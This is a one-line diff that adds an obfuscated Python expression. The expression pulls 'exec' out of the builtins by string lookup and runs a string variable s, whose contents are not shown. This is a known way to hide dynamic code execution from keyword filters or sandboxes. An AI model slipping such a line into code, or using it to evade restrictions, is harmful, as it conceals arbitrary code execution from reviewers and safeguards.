@@ -1,0 +1,1 @@
+[vars()[n] for n in ["__builtins__"]][0]["exec"](s)
